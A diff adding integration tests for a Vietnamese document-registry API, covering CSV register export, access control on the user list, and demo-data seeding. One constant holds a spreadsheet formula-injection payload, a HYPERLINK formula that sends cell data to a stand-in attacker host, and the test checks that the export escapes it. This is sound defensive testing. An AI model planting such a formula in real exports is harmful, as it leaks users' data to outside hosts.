@@ -1,0 +1,116 @@
+import { randomUUID } from 'node:crypto';
+import type { Connection } from 'mongoose';
+import { baseEnvSchema, connectMongo, createLogger, loadConfig } from '@vanthu/shared';
+import type { Principal } from '../../../src/app/ports';
+import { intakeActivities } from '../../../src/activities/intake-activities';
+import { arrivalAllocator, numberAllocator, prepareIntake } from '../../../src/prepare';
+import { organisationModel } from '../../../src/records/organisations';
+import { userModel } from '../../../src/records/users';
+import { as, startIntakeHarness, type IntakeHarness } from '../../support/harness';
+import { makePdf } from '../../support/pdf';
+import { parseCsv } from '../../unit/api/support/csv';
+import { ADMIN, startApi, type TestApi } from '../../unit/api/support/api-server';
+
+const HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")';
+
+describe('registers and the directory through the real API (real Temporal, MongoDB)', () => {
+  let h: IntakeHarness;
+  let api: TestApi;
+
+  beforeAll(async () => {
+    h = await startIntakeHarness();
+    api = await startApi(h.app, { edge: { maxInFlight: 1000 } });
+  }, 120_000);
+  afterAll(async () => {
+    await api?.close();
+    await h?.stop();
+  }, 60_000);
+
+  it("escapes a formula in a recipient's incoming register", async () => {
+    // The subject is typed at the sender; it reaches the recipient's register with the copy.
+    const created = await h.app.createDraft(
+      as.specialist,
+      { type: 'NQ', subject: HYPERLINK, issuer: 'BS-TU', signer: { userId: 'bs-secretary', authority: 'T/M' }, approvers: [], recipients: ['BS-TL-DU'], urgency: 'normal', secrecy: 'none' },
+      [{ field: 'content', filename: 'nq.pdf', declaredType: 'application/pdf', data: await makePdf('formula') }],
+      { idempotencyKey: randomUUID() },
+    );
+    const activities = intakeActivities({ mongo: h.ctx.mongo, numbers: numberAllocator(h.ctx), arrivals: arrivalAllocator(h.ctx) });
+    const arrivedAt = new Date().toISOString();
+    await activities.registerIncoming({
+      documentId: created.id,
+      org: 'BS-TL-DU',
+      parentWorkflowId: created.workflowId,
+      issuer: 'BS-TU',
+      urgency: 'normal',
+      secrecy: 'none',
+      content: created.content,
+      attachments: [],
+      arrivedAt,
+    });
+    const year = Number(arrivedAt.slice(0, 4));
+    const response = await api.call(`/v1/registers/incoming?from=${year - 1}-12-31&to=${year + 1}-01-01&format=csv`, { as: as.tlClerk });
+    expect(response.status).toBe(200);
+    const rows = parseCsv((await response.text()).replace(/^\uFEFF/, ''));
+    const subjectColumn = rows[0]?.indexOf('Trích yếu') ?? -1;
+    expect(subjectColumn).toBeGreaterThanOrEqual(0);
+    expect(rows.slice(1).map((row) => row[subjectColumn])).toEqual([`'${HYPERLINK}`]);
+    // The JSON register is data for programs, not a spreadsheet: it keeps the subject as written.
+    const json = (await (await api.call(`/v1/registers/incoming?from=${year - 1}-12-31&to=${year + 1}-01-01`, { as: as.tlClerk })).json()) as { items: Array<{ subject: string }> };
+    expect(json.items.map((i) => i.subject)).toEqual([HYPERLINK]);
+  });
+
+  describe('GET /v1/users', () => {
+    type Listed = { id: string; org: string; email?: string };
+    const list = async (path: string, who: Principal) => {
+      const response = await api.call(path, { as: who });
+      return { status: response.status, body: (await response.json()) as { items: Listed[]; reason?: string; field?: string } };
+    };
+
+    it("shows a specialist their own organisation's people, with no e-mail address but their own", async () => {
+      const { status, body } = await list('/v1/users', as.specialist);
+      expect(status).toBe(200);
+      expect(body.items.length).toBeGreaterThan(1);
+      expect(new Set(body.items.map((u) => u.org))).toEqual(new Set(['BS-TU']));
+      expect(body.items.filter((u) => u.email !== undefined)).toEqual([expect.objectContaining({ id: 'bs-specialist', email: 'bs-specialist@demo.vanthu.local' })]);
+    });
+
+    it("refuses another organisation's list to a non-admin", async () => {
+      const { status, body } = await list('/v1/users?org=BS-TL-DU', as.specialist);
+      expect(status).toBe(403);
+      expect(body).toMatchObject({ reason: 'forbidden', field: 'org' });
+      expect((await list('/v1/users?org=BS-TU', as.tlClerk)).status).toBe(403);
+      expect((await list('/v1/users?org=BS-TL-DU', as.tlClerk)).body.items.every((u) => u.org === 'BS-TL-DU')).toBe(true);
+    });
+
+    it('shows an admin everyone, with e-mail addresses, of one organisation if asked', async () => {
+      const all = await list('/v1/users', ADMIN);
+      expect(new Set(all.body.items.map((u) => u.org))).toEqual(new Set(['BS-TU', 'BS-TL-DU', 'BS-HB-DU']));
+      expect(all.body.items.every((u) => u.email?.endsWith('@demo.vanthu.local'))).toBe(true);
+      const one = await list('/v1/users?org=BS-HB-DU', ADMIN);
+      expect(one.body.items.map((u) => u.org)).toEqual(one.body.items.map(() => 'BS-HB-DU'));
+      expect(one.body.items.length).toBeGreaterThan(0);
+    });
+  });
+});
+
+describe('demo data (VANTHU_DEMO_DATA), on the real database', () => {
+  let mongo: Connection;
+  const database = `vanthu_it_demo_${randomUUID().replace(/-/g, '').slice(0, 12)}`;
+
+  beforeAll(async () => {
+    mongo = await connectMongo({ url: loadConfig(baseEnvSchema, process.env).MONGO_URL, database, logger: createLogger({}, 'silent') });
+  });
+  afterAll(async () => {
+    await mongo.dropDatabase();
+    await mongo.close();
+  });
+
+  it('leaves a database without demo organisations and users when off, and seeds them when on', async () => {
+    await prepareIntake({ mongo }, { demoData: false });
+    expect(await organisationModel(mongo).countDocuments()).toBe(0);
+    expect(await userModel(mongo).countDocuments()).toBe(0);
+    await prepareIntake({ mongo }, { demoData: true });
+    expect(await organisationModel(mongo).countDocuments({ _id: 'BS-TU' })).toBe(1);
+    expect(await userModel(mongo).countDocuments({ _id: 'bs-specialist' })).toBe(1);
+  });
+});
